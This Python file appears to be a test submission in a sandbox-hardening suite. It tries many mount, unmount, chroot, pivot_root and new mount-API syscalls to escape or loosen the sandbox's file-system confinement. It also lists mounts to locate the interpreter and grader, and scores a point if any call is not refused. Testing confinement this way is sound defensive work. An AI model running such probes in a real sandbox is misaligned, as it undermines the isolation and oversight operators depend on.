"""Change what is mounted, or the root, by the old calls and by the new ones.

Success: one of them is not refused, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
MOUNT, UMOUNT2, PIVOT_ROOT, CHROOT = 165, 166, 155, 161
OPEN_TREE, MOVE_MOUNT, FSOPEN, FSMOUNT, FSPICK, MOUNT_SETATTR, OPEN_TREE_ATTR = 428, 429, 430, 432, 433, 442, 467
AT_FDCWD = -100
KINDS = (b"proc", b"sysfs", b"tmpfs", b"devpts", b"devtmpfs", b"mqueue", b"cgroup2", b"cgroup", b"overlay", b"ext4",
         b"fuse", b"bpf", b"debugfs", b"tracefs", b"securityfs", b"binfmt_misc", b"configfs")


def new_mounts():
    os.makedirs("/tmp/m", exist_ok=True)
    return each(lambda kind: kernel(MOUNT, kind, b"/tmp/m", kind, 0, None) + 1, KINDS)


def bind_mounts():
    os.makedirs("/tmp/b", exist_ok=True)
    return each(lambda path: kernel(MOUNT, path, b"/tmp/b", None, 4096 | 16384, None) + 1, (b"/", b"/site", b"/dev"))


def changed_mounts():
    flags = {"remount": 32 | 4096, "move": 8192, "private": 1 << 18, "shared": 1 << 20}
    return each(lambda name: kernel(MOUNT, b"/site/numpy", b"/tmp", None, flags[name], None) + 1, flags)


def unmounts():
    """Below what is mounted something else may lie."""
    places = (b"/tmp", b"/dev/pts", b"/dev/null", b"/dev", b"/site/numpy", b"/box/inside", b"/")
    return each(lambda place: kernel(UMOUNT2, place, 2) + 1, places)


def other_roots():
    return each(lambda place: kernel(CHROOT, place) + 1, (b"/tmp", b"/", b".."))


def pivot():
    return each(lambda pair: kernel(PIVOT_ROOT, *pair) + 1, [(b"/tmp", b"/tmp"), (b".", b".")])


def new_calls_for_trees():
    return (each(lambda flags: kernel(OPEN_TREE, AT_FDCWD, b"/", flags), (0, 1, 0x8001))
            or each(lambda flags: kernel(OPEN_TREE_ATTR, AT_FDCWD, b"/", flags, None, 0), (0, 1, 0x8001)))


def new_calls_for_file_systems():
    return (each(lambda kind: kernel(FSOPEN, kind, 0), KINDS)
            or each(lambda place: kernel(FSPICK, AT_FDCWD, place, 0), (b"/", b"/tmp")))


def new_calls_for_moving():
    fd = os.open("/tmp", os.O_PATH)
    return (each(lambda place: kernel(MOVE_MOUNT, fd, b"", AT_FDCWD, place, 4) + 1, (b"/site", b"/dev"))
            or each(lambda place: kernel(FSMOUNT, fd, 0, 0), ("/tmp",)))


def writable_by_attributes():
    """Clear the read-only flag of what is mounted."""
    change = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
    places = (b"/", b"/site/numpy", b"/dev/null")
    return each(lambda place: kernel(MOUNT_SETATTR, AT_FDCWD, place, 0, change, 32) + 1, places)


def names_of_all_mounts():
    """The table of mounts names folders of the machine: where the interpreter and the grader lie."""
    STATMOUNT, LISTMOUNT, ROOT_OF_A_MOUNT = 457, 458, 8
    ids = (ctypes.c_uint64 * 100)()
    count = kernel(LISTMOUNT, (ctypes.c_uint64 * 3)(24, 2**64 - 1, 0), ids, 100, 0)

    def name(number):
        room = ctypes.create_string_buffer(4096)
        kernel(STATMOUNT, (ctypes.c_uint64 * 3)(24, number, ROOT_OF_A_MOUNT), room, 4096, 0)
        return room.raw[512:].strip(b"\0")

    return each(name, ids[:count])


WAYS = [new_mounts, bind_mounts, changed_mounts, unmounts, other_roots, pivot, new_calls_for_trees,
        new_calls_for_file_systems, new_calls_for_moving, writable_by_attributes, names_of_all_mounts]
'''
)
